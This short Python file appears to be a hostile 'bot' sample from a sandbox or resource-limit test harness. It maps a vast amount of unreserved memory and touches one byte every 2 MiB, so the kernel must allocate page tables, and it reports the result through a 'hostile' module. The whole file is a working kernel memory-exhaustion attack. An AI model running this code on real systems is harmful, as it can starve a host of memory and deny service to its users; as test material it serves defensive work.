"""A bot that touches a byte here and there, so that the kernel needs a table for each."""

import ctypes

from hostile import escaped


def attack(turn):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    size = ctypes.c_size_t(2**38)
    # Private, of no file, and without asking whether there is so much.
    place = libc.mmap(None, size, 3, 0x4022, -1, ctypes.c_long(0))
    if place == ctypes.c_void_p(-1).value:
        return
    for start in range(place, place + 2**38, 2**21):
        ctypes.memset(start, 1, 1)
    escaped("a gigabyte in tables")
